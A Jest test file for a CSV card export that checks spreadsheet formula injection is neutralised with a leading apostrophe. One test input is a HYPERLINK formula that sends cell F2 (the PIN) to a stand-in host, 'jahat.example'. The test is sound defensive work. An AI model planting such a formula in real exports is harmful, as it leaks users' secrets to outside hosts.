import { expect, it } from '@jest/globals';
import { parseUtf8 } from '../../src/core/bytes.ts';
import { type Card, cardsList } from '../../src/operations/cards.ts';

const cardsCsv = (cards: readonly Card[]) => parseUtf8(cardsList('acara', cards).bytes as Uint8Array);

const card: Card = {
  signerId: 'a',
  name: 'Andi "Uda", S.STP.',
  position: 'Camat',
  institution: 'Kecamatan; Kupitan',
  pin: '012345',
  link: 'https://ikrar.test/s/abc',
};

it('keeps a name that a spreadsheet would run a text', () => {
  const cells = ['=HYPERLINK("http://jahat.example?"&F2)', '+1', '-1', '@SUM(1)'];
  for (const name of cells) {
    const [, line] = cardsCsv([{ ...card, name }]).split('\r\n');
    expect(line).toMatch(/^"'[=+@-]/);
  }
  expect(cardsCsv([card]).split('\r\n')[1]).toBe(
    '"Andi ""Uda"", S.STP.";"Camat";"Kecamatan; Kupitan";"";"012345";"https://ikrar.test/s/abc"',
  );
});
